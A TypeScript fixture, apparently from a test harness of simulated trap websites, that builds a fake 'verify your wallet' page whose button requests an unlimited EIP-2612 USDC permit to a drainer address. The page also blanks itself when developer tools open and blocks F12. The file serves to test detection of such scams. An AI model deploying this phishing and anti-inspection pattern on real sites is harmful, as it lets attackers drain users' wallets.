import { UNLIMITED } from '../../history/calls.ts'
import { byPath, page } from '../page.ts'
import type { Site, SiteOf } from '../site.ts'
import { onPress } from '../walletCode.ts'

const FIELDS = { owner: 'address', spender: 'address', value: 'uint256', nonce: 'uint256', deadline: 'uint256' }

/** A "verification" that is a permit (EIP-2612) for everything, on a page that does not want to be looked into. */
export const permitSigner: SiteOf = ({ tokens, traps }): Site => {
  const typed = {
    types: {
      EIP712Domain: ['name:string', 'version:string', 'chainId:uint256', 'verifyingContract:address'].map(member),
      Permit: Object.entries(FIELDS).map(([name, type]) => ({ name, type })),
    },
    primaryType: 'Permit',
    domain: { name: 'USD Coin', version: '2', chainId: 1, verifyingContract: tokens.usdc },
    message: { spender: traps.drainer, value: UNLIMITED.toString(), nonce: '0', deadline: '4294967295' },
  }
  const sign = `  const typed = ${JSON.stringify(typed)}
  typed.message.owner = account
  await request('eth_signTypedData_v4', [account, JSON.stringify(typed)])`
  return {
    name: 'permit-signer',
    kind: 'trap',
    twinOf: 'exchange-front-end',
    url: 'https://tern-staking.test/',
    hosts: ['tern-staking.test'],
    sees: 'a wallet verification that is a permit without limit, and code that keeps inspectors away',
    answer: byPath({
      '/': page(
        'Tern staking',
        `<h1>Verify your wallet</h1><p>Mandatory upgrade: verify your wallet today to keep your rewards.</p>
<button id="verify">Verify wallet</button>
<script>${onPress('verify', sign)}
setInterval(() => { if (window.outerWidth - window.innerWidth > 160) document.body.innerHTML = '' }, 500)
document.addEventListener('keydown', (e) => { if (e.key === 'F12') e.preventDefault() })
eval(atob('${btoa('window.ready=1')}'))</script>`,
      ),
    }),
  }
}

function member(text: string): { name: string; type: string } {
  const [name = '', type = ''] = text.split(':')
  return { name, type }
}
